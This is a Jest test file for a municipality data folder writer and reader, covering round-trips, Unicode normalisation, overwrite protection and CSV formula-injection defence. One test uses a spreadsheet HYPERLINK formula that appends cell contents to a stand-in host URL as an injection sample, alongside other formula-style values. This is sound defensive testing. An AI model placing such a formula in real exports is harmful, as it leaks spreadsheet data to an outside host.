import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import * as fc from "fast-check";
import { folderFiles, writeFolder } from "../../server/files/writeFolder";
import { readFolder, type FolderContent, type RecordLists } from "../../server/files/readFolder";
import { conceptNames } from "../../server/domain/records/concepts";

const examples = path.join(__dirname, "..", "..", "examples", "municipalities");
jest.setTimeout(60_000);

let folder: string;

beforeEach(async () => {
  folder = await fs.mkdtemp(path.join(os.tmpdir(), "malbok-files-"));
});
afterEach(() => fs.rm(folder, { recursive: true, force: true }));

async function read(from: string): Promise<FolderContent> {
  const content = await readFolder(from);
  if (!content.ok) throw new Error(JSON.stringify(content.error, null, 1));
  return content.value;
}

/** Everything in the folder as text lines, whatever the order of records and of keys. */
const asLines = ({ municipality, records, values }: FolderContent): string[] => [
  stableText(municipality),
  ...conceptNames.flatMap((name) => records[name].map((record) => `${name} ${stableText(record)}`)).sort(),
  ...values.map(stableText).sort(),
];

function stableText(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map(stableText).join(",")}]`;
  if (typeof value !== "object" || value === null) return JSON.stringify(value);
  const entries = Object.entries(value).sort(([a], [b]) => (a < b ? -1 : 1));
  return `{${entries.map(([key, inner]) => `${key}:${stableText(inner)}`).join(",")}}`;
}

describe("the files of a municipality", () => {
  test("written and read again are the same content, and written again the same bytes", async () => {
    for (const name of (await fs.readdir(examples)).sort()) {
      const target = path.join(folder, name);
      const content = await read(path.join(examples, name));
      expect((await writeFolder(target, content)).ok).toBe(true);
      const again = await read(target);
      expect(asLines(again)).toEqual(asLines(content));
      expect(folderFiles(again)).toEqual(folderFiles(content));
    }
  });

  test("keep any text that a title may hold, to the last character, in composed letters", async () => {
    const noRecords = Object.fromEntries(conceptNames.map((name) => [name, []])) as unknown as RecordLists;
    await fc.assert(
      fc.asyncProperty(
        fc.string({ minLength: 1, maxLength: 40, unit: "grapheme" }),
        fc.string(),
        async (name, comment) => {
          const municipality = { ...sample, name };
          const value = { ...sampleValue, comment: comment === "" ? null : comment };
          await writeFolder(folder, { municipality, records: noRecords, values: [value] }, { isOverwriting: true });
          const again = await read(folder);
          expect(again.municipality.name).toBe(name.normalize("NFC"));
          expect(again.values).toEqual([{ ...value, comment: value.comment?.normalize("NFC") ?? null }]);
        },
      ),
      {
        numRuns: 150,
        examples: [
          ["0331", "a\r\nb"],
          ["no", " kant "],
          [" ", "\r"],
          ["a\n\nb\n", '"'],
          ["- x: y", "\ufeff"],
          ["2024-08-31", ";"],
          ["=1+1", "=1+1"],
          ["'", "'=1+1"],
          ["@", "=\u0338 ;-2"],
        ],
      },
    );
  });

  test("have no cell that a spreadsheet would run, and read back as they were", async () => {
    const noRecords = Object.fromEntries(conceptNames.map((name) => [name, []])) as unknown as RecordLists;
    const formula = '=HYPERLINK("http://exempel.se?"&A1)';
    const value = {
      ...sampleValue,
      indicator: "=N1",
      unit: "@KF",
      members: "-GENDER:K",
      source: `x;${formula}`,
      comment: formula,
    };
    await writeFolder(folder, { municipality: sample, records: noRecords, values: [value] });
    const text = await fs.readFile(path.join(folder, "values.csv"), "utf8");
    for (const delimiter of [",", ";", "\t"]) {
      const cells = text.split(/\r?\n/).flatMap((line) => line.split(delimiter).map((cell) => cell.replace(/^"/, "")));
      expect(cells.filter((cell) => /^\s*[=+@-](?!0\.5$)/.test(cell))).toEqual([]);
    }
    expect((await read(folder)).values).toEqual([value]);
  });

  test("are not written beside other files that would be read as the same municipality", async () => {
    await fs.writeFile(path.join(folder, "extra.yaml"), "goals: []\n");
    const content = await read(path.join(examples, (await fs.readdir(examples)).sort()[0] ?? ""));
    for (const isOverwriting of [false, true]) {
      const written = await writeFolder(folder, content, { isOverwriting });
      expect(written.ok).toBe(false);
      expect(await fs.readdir(folder)).toEqual(["extra.yaml"]);
    }
  });

  test("are written over those of another day only when that is asked for", async () => {
    const content = await read(path.join(examples, (await fs.readdir(examples)).sort()[0] ?? ""));
    expect((await writeFolder(folder, content)).ok).toBe(true);
    const file = path.join(folder, "goals.yaml");
    await fs.appendFile(file, "# ändrad för hand\n");
    const refused = await writeFolder(folder, content);
    expect(refused).toMatchObject({ ok: false, error: [{ failure: { code: "FOLDER_NOT_EMPTY" } }] });
    expect(await fs.readFile(file, "utf8")).toContain("ändrad för hand");
    expect((await writeFolder(folder, content, { isOverwriting: true })).ok).toBe(true);
    expect(await fs.readFile(file, "utf8")).toBe(folderFiles(content).get("goals.yaml"));
  });
});

const sample = {
  code: "9999",
  name: "Påhittade kommunen",
  locale: "sv_SE",
  currencyUnit: "TKR",
  interimReportEndMonth: 8,
  areResultsPublic: false,
  isExample: true,
} as const;

const sampleValue = {
  indicator: "N1",
  unit: "KF",
  series: "OUTCOME",
  members: "GENDER:K,OPERATOR_FORM:OWN",
  period: "2024D08",
  number: "-0.5",
  state: "REPORTED",
  margin: "1.25",
  sampleSize: 12,
  source: "Exempeldata",
  comment: null,
  isExample: true,
  revision: 3,
} as const;
